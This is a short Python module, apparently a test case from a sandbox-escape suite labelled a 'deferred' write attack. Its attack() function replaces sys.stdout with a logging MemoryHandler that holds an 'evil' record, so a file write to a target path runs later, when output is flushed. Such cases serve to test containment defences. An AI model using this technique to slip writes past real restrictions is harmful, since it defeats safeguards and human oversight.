"""What waits in an object that is sys.stdout is written when that is flushed."""
CATEGORY = "deferred"
REACH = "write"

import logging.handlers
import sys

from . import payload


def attack():
    target = logging.FileHandler(payload.TARGET, delay=True)
    handler = logging.handlers.MemoryHandler(100, target=target)
    handler.buffer.append(logging.makeLogRecord({"msg": "evil"}))
    logging._handlerList.clear()
    vars(sys)["stdout"] = handler
